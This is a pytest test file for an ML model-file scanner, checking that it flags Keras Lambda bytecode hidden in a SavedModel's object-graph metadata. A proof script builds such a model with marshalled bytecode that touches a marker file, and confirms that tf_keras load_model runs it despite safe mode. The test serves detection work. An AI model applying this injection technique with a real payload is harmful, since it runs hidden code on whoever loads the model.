"""A SavedModel's object graph carries Keras configs: tf_keras' ``load_model`` revives layers from
``SavedUserObject.metadata`` (when ``keras_metadata.pb`` is absent) outside any safe mode, so a
``Lambda`` there runs its marshalled bytecode (outside review 23). The scanner used to read only
the graph's ops, and such a ``saved_model.pb`` was CLEAN.

Where tf_keras is installed, the proof builds a real tf_keras SavedModel, moves its Keras metadata
into the object graph with a Lambda whose bytecode creates a marker, and loads it in a subprocess.
"""

from __future__ import annotations

import importlib.util
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import h5py
import pytest

from airlock import Verdict
from airlock._formats.savedmodel import SavedModelReader
from airlock.errors import FormatError, LimitError
from airlock.limits import DEFAULT_LIMITS
from airlock.results import FileReport, Severity
from tests.formats_ml.helpers import assert_clean, only, read_all, scan_one
from tests.formats_ml.kerasgen import lambda_layer_legacy, legacy_sequential, write_h5
from tests.formats_ml.tfgen import saved_model_with_objects

HAVE_TF_KERAS = importlib.util.find_spec("tf_keras") is not None


def _scan(tmp_path: Path, data: bytes) -> FileReport:
    folder = tmp_path / "model"
    folder.mkdir()
    path = folder / "saved_model.pb"
    path.write_bytes(data)
    return scan_one(path)


def _ordinary_metadata() -> dict[str, Any]:
    """A Sequential's metadata as tf_keras writes it: json_utils markers (TensorShape, __tuple__,
    TypeSpec), an InputSpec, and its own optimizer registered as 'Custom>Adam'."""
    config = legacy_sequential()
    return {
        **config,
        "name": "sequential",
        "trainable": True,
        "expects_training_arg": True,
        "batch_input_shape": {"class_name": "__tuple__", "items": [None, 4]},
        "input_spec": [{"class_name": "InputSpec", "config": {"dtype": None, "shape": None, "ndim": None}}],
        "build_input_shape": {"class_name": "TensorShape", "items": [None, 4]},
        "full_save_spec": {
            "class_name": "__tuple__",
            "items": [
                [
                    {
                        "class_name": "TypeSpec",
                        "type_spec": "tf.TensorSpec",
                        "serialized": [
                            {"class_name": "TensorShape", "items": [None, 4]},
                            "float32",
                            "input_1",
                        ],
                    }
                ],
                {},
            ],
        },
        "model_config": config,
        "training_config": {
            "loss": "mse",
            "optimizer_config": {
                "class_name": "Custom>Adam",
                "config": {"name": "Adam", "learning_rate": 0.001},
            },
        },
    }


def test_lambda_bytecode_in_the_object_graph_metadata_is_malicious(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    model = legacy_sequential(lambda_layer_legacy(marker))
    data = saved_model_with_objects(
        ("_tf_keras_sequential", json.dumps(model)),
        ("_tf_keras_layer", json.dumps(lambda_layer_legacy(marker))),
    )
    report = _scan(tmp_path, data)
    assert report.format == "tf-savedmodel"
    assert report.verdict is Verdict.MALICIOUS
    lambdas = [f for f in report.findings if f.rule == "keras.lambda"]
    assert {f.severity for f in lambdas} == {Severity.MALICIOUS}
    wheres = " ".join(f.message for f in lambdas)
    assert "object graph node 0 (_tf_keras_sequential) metadata (Sequential 'sequential')" in wheres
    assert "object graph node 1 (_tf_keras_layer) metadata (Lambda 'lambda')" in wheres
    assert str(marker) in wheres
    assert not marker.exists()


def test_a_custom_class_in_the_object_graph_metadata_is_named(tmp_path: Path) -> None:
    layer = {"class_name": "MyLayer", "config": {"name": "mine"}}
    report = _scan(tmp_path, saved_model_with_objects(("_tf_keras_layer", json.dumps(layer))))
    assert report.verdict is Verdict.SUSPICIOUS
    assert "'MyLayer'" in only(report, "keras.custom-object").message


def test_ordinary_keras_metadata_in_the_object_graph_is_clean(tmp_path: Path) -> None:
    data = saved_model_with_objects(
        ("_tf_keras_sequential", json.dumps(_ordinary_metadata())),
        ("trackable_list_wrapper", ""),  # objects that are not Keras layers carry no metadata
    )
    assert_clean(_scan(tmp_path, data))


def test_metadata_that_is_not_json_is_an_error(tmp_path: Path) -> None:
    report = _scan(tmp_path, saved_model_with_objects(("_tf_keras_layer", "{not json")))
    assert report.verdict is Verdict.ERROR
    with pytest.raises(FormatError, match=r"object graph node 0 .* metadata is not valid JSON"):
        read_all(
            SavedModelReader(), saved_model_with_objects(("_tf_keras_layer", "{not json")), tmp_path / "m"
        )


@pytest.mark.parametrize("extra", [-1, 0, 1])
def test_metadata_size_is_bounded_by_max_header_bytes(tmp_path: Path, extra: int) -> None:
    limit = DEFAULT_LIMITS.max_header_bytes
    text = json.dumps({"class_name": "Dense", "config": {"name": ""}})
    padded = text[:-2] + " " * (limit + extra - len(text)) + "}}"
    assert len(padded) == limit + extra
    data = saved_model_with_objects(("_tf_keras_layer", padded))
    if extra <= 0:
        assert read_all(SavedModelReader(), data, tmp_path / "m") is not None
    else:
        with pytest.raises(LimitError, match="max_header_bytes"):
            read_all(SavedModelReader(), data, tmp_path / "m")


def test_tf_keras_builtin_optimizers_in_a_legacy_h5_are_clean(tmp_path: Path) -> None:
    """tf_keras registers its own optimizers as 'Custom>Adam' etc. and writes that name into every
    compiled .h5 model's training_config: an ordinary file, not custom code. A near miss stays a
    custom object."""
    config = legacy_sequential()
    for name, clean in (
        ("Custom>Adam", True),
        ("Custom>SGD", True),
        ("Custom>Adamm", False),
        ("Adam>Custom", False),
    ):
        path = write_h5(tmp_path / f"{name.replace('>', '_')}.h5", config)
        with h5py.File(path, "a") as h5:
            h5.attrs["training_config"] = json.dumps(
                {"loss": "mse", "optimizer_config": {"class_name": name, "config": {"name": "opt"}}}
            ).encode()
        report = scan_one(path)
        if report.verdict is Verdict.ERROR and "keras.h5-unsupported" in {f.rule for f in report.findings}:
            pytest.skip("the sandboxed HDF5 reader is not available here")
        if clean:
            assert_clean(report)
        else:
            assert name in only(report, "keras.custom-object").message


_PROOF = r"""
import base64, json, marshal, os, sys, types
os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
folder, marker = sys.argv[1], sys.argv[2]
import tf_keras
from tensorflow.core.protobuf import saved_model_pb2
from tf_keras.protobuf import saved_metadata_pb2
if sys.argv[3] == "build":
    model = tf_keras.Sequential([tf_keras.layers.Input((2,)), tf_keras.layers.Lambda(lambda x: x * 1.0)])
    model.save(folder, save_format="tf")
    source = f"lambda x: (__import__('pathlib').Path({marker!r}).touch(), x)[1]"
    code = next(c for c in compile(source, "<p>", "eval").co_consts if isinstance(c, types.CodeType))
    payload = base64.b64encode(marshal.dumps(code)).decode()
    def swap(o):
        if isinstance(o, dict):
            if o.get("class_name") == "Lambda":
                o["config"]["function"] = [payload, None, None]
            for v in o.values():
                swap(v)
        elif isinstance(o, list):
            for v in o:
                swap(v)
    meta = saved_metadata_pb2.SavedMetadata()
    meta.ParseFromString(open(os.path.join(folder, "keras_metadata.pb"), "rb").read())
    sm = saved_model_pb2.SavedModel()
    sm.ParseFromString(open(os.path.join(folder, "saved_model.pb"), "rb").read())
    for n in meta.nodes:
        data = json.loads(n.metadata)
        swap(data)
        sm.meta_graphs[0].object_graph_def.nodes[n.node_id].user_object.metadata = json.dumps(data)
    open(os.path.join(folder, "saved_model.pb"), "wb").write(sm.SerializeToString())
    os.remove(os.path.join(folder, "keras_metadata.pb"))
else:
    tf_keras.models.load_model(folder)  # safe_mode=True is the default
"""


def _tf_keras(folder: Path, marker: Path, mode: str) -> None:
    env = {**os.environ, "TF_CPP_MIN_LOG_LEVEL": "3", "CUDA_VISIBLE_DEVICES": ""}
    done = subprocess.run(
        [sys.executable, "-c", _PROOF, str(folder), str(marker), mode],
        capture_output=True,
        text=True,
        timeout=300,
        env=env,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-2000:]


@pytest.mark.skipif(not HAVE_TF_KERAS, reason="tf_keras is not installed")
def test_real_tf_keras_runs_the_object_graph_lambda_that_the_scan_finds(tmp_path: Path) -> None:
    folder, marker = tmp_path / "model", tmp_path / "pwned"
    _tf_keras(folder, marker, "build")
    report = scan_one(folder / "saved_model.pb")
    assert report.verdict is Verdict.MALICIOUS
    assert str(marker) in only(report, "keras.lambda").message
    assert not marker.exists()
    _tf_keras(folder, marker, "load")
    assert marker.exists()  # the payload ran in tf_keras' load_model, in safe mode
